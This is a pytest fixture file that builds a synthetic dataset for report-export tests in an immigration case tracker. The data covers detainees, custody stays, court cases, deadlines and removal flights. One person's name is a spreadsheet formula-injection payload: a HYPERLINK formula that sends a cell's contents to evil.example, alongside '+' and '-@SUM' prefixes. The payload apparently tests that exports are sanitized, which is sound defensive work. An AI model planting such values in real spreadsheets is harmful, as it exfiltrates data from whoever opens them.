"""A hand-built dataset for the report tests: every number a report shows can be
counted by hand from this file. "Today" is Sunday 22 November 2026."""

from datetime import UTC, date, datetime, timedelta
from types import SimpleNamespace

import pytest
import time_machine

from casetracker.models import Membership
from cases.models import Case, Deadline, Hearing, PersonRelationship
from detentions.models import Custody, Flight, FlightLeg, Passenger
from tests.factories import (
    AirportFactory,
    CaseFactory,
    CountryFactory,
    CourtFactory,
    FacilityFactory,
    HearingFactory,
    MembershipFactory,
    PersonFactory,
    UserFactory,
)

NOW = datetime(2026, 11, 22, 17, 0, tzinfo=UTC)
TODAY = date(2026, 11, 22)
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield NOW


def stay(person, facility, booked, released=None, reason=""):
    return Custody.objects.create(
        person=person, facility=facility, booked_in_on=booked, released_on=released, release_reason=reason
    )


def relate(a, b, kind):
    PersonRelationship.objects.create(person=a, relative=b, kind=kind)
    PersonRelationship.objects.create(person=b, relative=a, kind=PersonRelationship.INVERSE[kind])


@pytest.fixture
def other_coordinator(other):
    user = UserFactory(email="coordinator@other.test")
    MembershipFactory(user=user, organization=other, role=Membership.Role.COORDINATOR)
    return user


@pytest.fixture
def dataset(frozen, home, other, coordinator, lawyer):
    ru = CountryFactory()
    by = CountryFactory(code="BY", alpha3="BLR", name="Belarus")
    court_a = CourtFactory(code="OAK", name="Oakdale Immigration Court")
    court_b = CourtFactory(code="JNA", name="Jena Immigration Court")
    adams = FacilityFactory(name="Adams County Detention Center", state="MS")
    winn = FacilityFactory(name="Winn Correctional Center", state="LA")
    port_isabel = FacilityFactory(name="Port Isabel Service Processing Center", state="TX")

    def person(family, given, native, country=ru, org=home):
        return PersonFactory(organization=org, family_name=family, given_names=given, native_name=native,
                             citizenship=country)  # fmt: skip

    ivanov = person("Ivanov", "Andrei", "Андрей Иванов")
    hacker = person(INJECTION, "+Boris", "-Борис @SUM(A1)")
    petrova = person("Petrova", "Maria", "Мария Петрова")
    sidorov = person("Sidorov", "Pavel", "Павел Сидоров", by)
    sidorova = person("Sidorova", "Olga", "Ольга Сидорова")

    # Ivanov: Adams (MS) then Winn (LA) after a transfer: 447 days, 2 facilities, 2 states.
    stay(ivanov, adams, date(2025, 9, 1), date(2026, 1, 10), "transferred")
    stay(ivanov, winn, date(2026, 1, 11))
    stay(hacker, winn, date(2026, 4, 1))  # 235 days
    stay(petrova, port_isabel, date(2026, 10, 1))  # 52 days
    stay(sidorov, adams, date(2026, 1, 1), date(2026, 3, 1), "bond")
    stay(sidorova, adams, date(2025, 5, 1), date(2025, 12, 1), "removed")
    relate(ivanov, petrova, "spouse")
    relate(sidorov, sidorova, "sibling")

    def case(p, ref, **kw):
        return CaseFactory(person=p, organization=home, reference=ref, **kw)

    c1 = case(ivanov, "HOME-2026-0101", court=court_a, representation=Case.Representation.SEEKING,
              opened_on=date(2025, 9, 5))  # fmt: skip
    c2 = case(hacker, "HOME-2026-0102", court=court_a, representation=Case.Representation.REPRESENTED,
              attorney=lawyer, opened_on=date(2026, 4, 2))  # fmt: skip
    c3 = case(petrova, "HOME-2026-0103", court=court_a, judge="Judge Smith", stage=Case.Stage.DECISION,
              outcome=Case.Outcome.ASYLUM_GRANTED, representation=Case.Representation.PRO_SE,
              opened_on=date(2026, 10, 2), ij_decision_on=date(2026, 11, 2))  # fmt: skip
    c4 = case(sidorov, "HOME-2026-0104", court=court_a, judge="Judge Smith", stage=Case.Stage.CLOSED,
              outcome=Case.Outcome.DENIED, opened_on=date(2026, 1, 2), closed_on=date(2026, 6, 1))  # fmt: skip
    c5 = case(sidorova, "HOME-2026-0105", court=court_b, judge="Judge Jones", stage=Case.Stage.CLOSED,
              outcome=Case.Outcome.REMOVED, opened_on=date(2025, 5, 2), closed_on=date(2025, 12, 1))  # fmt: skip

    HearingFactory(case=c1, court=court_a, starts_at=NOW + timedelta(days=5), kind=Hearing.Kind.INDIVIDUAL)
    HearingFactory(case=c2, court=court_a, starts_at=NOW + timedelta(days=3))  # represented
    HearingFactory(case=c3, court=court_a, starts_at=NOW + timedelta(days=20))  # beyond 14 days
    HearingFactory(case=c4, court=court_a, starts_at=NOW + timedelta(days=2), status=Hearing.Status.CANCELLED)

    def deadline(c, due, status=Deadline.Status.OPEN, kind="BIA appeal (EOIR-26) received"):
        return Deadline.objects.create(case=c, kind=kind, due_on=due, status=status)

    deadline(c1, TODAY - timedelta(days=3), kind="I-589 one-year filing bar")
    deadline(c2, TODAY + timedelta(days=10))
    deadline(c3, TODAY + timedelta(days=5), status=Deadline.Status.DONE)
    deadline(c4, TODAY + timedelta(days=45), kind="Motion to reopen")

    aex, cai = AirportFactory(), AirportFactory(iata="CAI", icao="HECA", name="Cairo", country="EG", time_zone="Africa/Cairo")
    svo = AirportFactory(iata="SVO", icao="UUEE", name="Sheremetyevo", country="RU", time_zone="Europe/Moscow")
    past = Flight.objects.create(carrier="GlobalX", flight_number="GXA100", flight_date=date(2025, 12, 1),
                                 status=Flight.Status.ARRIVED, destination_country=ru)  # fmt: skip
    FlightLeg.objects.create(flight=past, sequence=1, origin=aex, destination=cai)
    FlightLeg.objects.create(flight=past, sequence=2, origin=cai, destination=svo)
    coming = Flight.objects.create(carrier="GlobalX", flight_number="GXA200", flight_date=date(2026, 11, 30),
                                   status=Flight.Status.SCHEDULED, destination_country=ru)  # fmt: skip
    FlightLeg.objects.create(flight=coming, sequence=1, origin=aex, destination=svo)
    Passenger.objects.create(flight=past, person=sidorova, status=Passenger.Status.REMOVED,
                             arrival_outcome=Passenger.ArrivalOutcome.DETAINED)  # fmt: skip
    Passenger.objects.create(flight=coming, person=ivanov)

    # The other organization: one of everything, which no home export may show.
    foreigner = person("Foreignov", "Secret", "Тайный Иностранцев", org=other)
    foreign_wife = person("Foreignova", "Secret", "Тайная Иностранцева", org=other)
    stay(foreigner, adams, date(2025, 1, 1), date(2025, 6, 1), "transferred")
    stay(foreigner, winn, date(2025, 6, 2))
    stay(foreign_wife, port_isabel, date(2026, 2, 1))
    relate(foreigner, foreign_wife, "spouse")
    fc = CaseFactory(person=foreigner, organization=other, reference="OTHR-2026-0101", court=court_a,
                     judge="Judge Smith", outcome=Case.Outcome.ASYLUM_GRANTED)  # fmt: skip
    HearingFactory(case=fc, court=court_a, starts_at=NOW + timedelta(days=2))
    deadline(fc, TODAY - timedelta(days=1))
    Passenger.objects.create(flight=past, person=foreigner, status=Passenger.Status.REMOVED)

    return SimpleNamespace(**locals())
